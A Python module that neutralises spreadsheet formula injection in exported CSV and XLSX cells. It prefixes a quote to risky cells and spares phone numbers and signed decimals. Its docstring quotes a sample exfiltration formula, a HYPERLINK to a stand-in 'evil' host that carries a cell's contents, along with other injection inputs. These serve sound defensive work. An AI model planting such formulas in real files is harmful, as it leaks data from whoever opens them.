"""Spreadsheet formula injection ("CSV injection"): cells that a spreadsheet would run as a formula.

Caller names and numbers come from outside (a caller ID can be set to anything): opened in Excel or
LibreOffice, a cell such as ``=HYPERLINK("http://evil/?"&A1,"click")`` or ``@SUM(1)`` would run.
Every CSV (and XLSX) cell we write goes through :func:`safe_cell`, which neutralises a cell the OWASP
way: a single quote ``'`` in front, which spreadsheets take as "this is text" and do not show.

A cell is neutralised when it begins with ``=``, ``@``, a tab or a carriage return, or with ``+`` or
``-`` unless the whole cell is a number:

- a phone number: ``+`` and digits, spaces allowed after the first digit (``+4930123456``,
  ``+33 1 23 45 67 89``);
- a signed decimal: ``-1.50``, ``+2``, ``-0.0500`` (digits, optionally a point and more digits);
- ``-`` alone (an empty value in some reports).

So ``+1+cmd``, ``-2+3`` and ``+ 1`` are neutralised, while the numbers of our files stay exactly
as they were. Nothing else changes: a cell keeps its characters, and the CSV writer quotes it as
usual. The quote is part of the cell for any program other than a spreadsheet: a reader that wants
the original drops one leading ``'`` from a cell whose next character is one of ``=+-@``, tab or CR.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# What a spreadsheet may take as the start of a formula (OWASP's list).
_TRIGGERS = frozenset("=+-@\t\r")
_NUMBER = re.compile(r"\+[0-9][0-9 ]*|[+-][0-9]+(?:\.[0-9]+)?|-", re.ASCII)


def safe_cell(text: str) -> str:
    """``text``, with a ``'`` in front when a spreadsheet would take it for a formula."""
    if not text or text[0] not in _TRIGGERS or _NUMBER.fullmatch(text):
        return text
    return "'" + text


def safe_row(cells: Iterable[Any]) -> list[Any]:
    """The row with every text cell passed through :func:`safe_cell` (other values unchanged)."""
    # Inlined first-character test: this runs for every cell of a million-row export.
    return [safe_cell(cell) if isinstance(cell, str) and cell and cell[0] in _TRIGGERS else cell
            for cell in cells]
